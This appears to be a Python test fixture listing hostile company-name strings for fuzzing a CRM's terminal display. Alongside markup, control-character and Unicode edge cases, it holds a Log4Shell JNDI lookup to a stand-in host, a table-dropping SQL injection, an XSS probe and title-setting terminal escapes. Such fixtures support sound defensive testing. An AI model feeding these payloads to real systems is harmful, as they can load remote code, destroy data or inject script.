"""Text a CRM can really hold that breaks naive terminal UIs (used only with ``hostile=True``)."""

from __future__ import annotations

HOSTILE_STRINGS: tuple[str, ...] = (
    "[bold red]Acme[/]",
    "[link=https://evil.example]Click me[/link]",
    "[/]",
    "[bold]unclosed markup",
    "\x1b[31mRed Corp\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\OSC link\x1b]8;;\x1b\\",
    "\x1b]0;pwned title\x07Title Setter Ltd",
    "Bell\x07 and back\x08space\x7f Inc.",
    "Null\x00Byte Systems",
    "Carriage\rReturn\nNewline\tTab LLC",
    "Zero\u200bWidth\u200d\ufeffJoiner Co",
    "\u202eRTL override\u202c Industries",
    "שלום Hebrew Shalom Ltd",
    "مرحبا Arabic Trading",
    "😀🚀 Emoji Rocket 👩\u200d💻 Labs",
    "Ｆｕｌｌｗｉｄｔｈ Ｃｏｒｐ",
    "${jndi:ldap://evil.example/a}",
    "'; DROP TABLE accounts; --",
    "<script>alert(1)</script>",
    "%s %d {0} {name}",
    "",
    "N" * 10_000,
)
